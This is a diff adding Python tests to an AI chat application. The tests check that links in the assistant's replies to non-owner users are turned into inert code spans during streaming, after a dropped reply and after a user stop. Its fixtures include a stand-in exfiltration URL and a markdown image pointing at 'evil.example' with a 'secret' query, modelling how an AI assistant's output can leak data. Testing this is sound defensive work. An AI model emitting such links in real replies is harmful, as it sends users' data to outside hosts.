@@ -5,9 +5,10 @@ from pathlib import Path
 
 from tests.scenarios.kit import calls
 
-from shoal.domain.events import AssistantSaid, TurnFinished
+from shoal.domain.events import AssistantSaid, TextStreamed, TurnFinished
 from shoal.permissions.access import AccessRules
-from shoal.testing.model import FakeModel
+from shoal.surfaces.http.openai_routes import GrowingReply
+from shoal.testing.model import FakeModel, Gate, Reply
 from shoal.testing.scenario import scenario
 
 ANSWER = "See https://docs.example.org/guide and https://evil.example/?q=secret."
@@ -43,3 +44,55 @@ async def test_in_a_clean_turn_links_stay(tmp_path: Path) -> None:
     async with scenario(tmp_path, FakeModel(ANSWER)) as world:
         await world.ada.says("Where is it?")
         assert (await world.ada.sees("evil.example")).markdown == ANSWER
+
+
+async def test_what_is_streamed_of_a_strangers_answer_is_what_the_answer_has(tmp_path: Path) -> None:
+    picture = "Look at ![](https://evil.example/?q=secret) here.\n\nThat is all there is to say."
+    access = AccessRules(owners=("ada",), allow=("*",))
+    async with scenario(tmp_path, FakeModel(picture), access=access) as world:
+        eve = world.person("eve", "1", "square")
+        with world.app.hub.subscribe(eve.thread) as coming:
+            await eve.says("Draw it.")
+            await eve.sees("all there is")
+            world.app.hub.close()
+            items = [item.data async for item in coming]
+        pieces = [data for data in items if isinstance(data, TextStreamed)]
+        (said,) = [data for data in items if isinstance(data, AssistantSaid)]
+        text = "".join(piece.text for piece in pieces)
+        assert text == "Look at `https://evil.example/?q=secret` here.\n\nThat is all there is to "
+        assert said.text == f"{text}say."
+        growing = GrowingReply()
+        sent = [growing.stream(piece.text, piece.step, piece.offset) for piece in pieces]
+        assert "".join([*sent, growing.finish_step(said)]) == said.text
+
+
+async def test_an_answer_that_breaks_off_makes_no_new_link(tmp_path: Path) -> None:
+    access = AccessRules(owners=("ada",), allow=("*",))
+    model = FakeModel(script=lambda seen: Reply(f"{ANSWER} And so on", drop_after=5))
+    settings = {"turns": {"retry_base_seconds": 0.001}}
+    async with scenario(tmp_path, model, settings=settings, access=access) as world:
+        eve = world.person("eve", "1", "square")
+        await eve.says("Read https://docs.example.org/guide and tell me.")
+        await eve.sees("`https://evil.example/?q=secret`")
+        (said,) = [event.data for event in await world.journal(eve.thread) if isinstance(event.data, AssistantSaid)]
+        assert "`https://evil.example/?q=secret`" in said.text
+
+
+async def test_what_was_written_before_a_stop_makes_no_new_link(tmp_path: Path) -> None:
+    access = AccessRules(owners=("ada",), allow=("*",))
+    gate = Gate()
+    model = FakeModel(Reply(f"{ANSWER} And", gate=gate, gate_at=4))
+    async with scenario(tmp_path, model, access=access) as world:
+        eve = world.person("eve", "1", "square")
+        with world.app.hub.subscribe(eve.thread) as coming:
+            await eve.says("Read https://docs.example.org/guide and tell me.")
+            shown = ""
+            async for item in coming:
+                shown += item.data.text if isinstance(item.data, TextStreamed) else ""
+                if "and " in shown:
+                    break
+            await eve.stops()
+            await world.happens(eve.thread, "turn_finished")
+            gate.open()
+        (said,) = [event.data for event in await world.journal(eve.thread) if isinstance(event.data, AssistantSaid)]
+        assert said.text == "See https://docs.example.org/guide and `https://evil.example/?q=secret`."
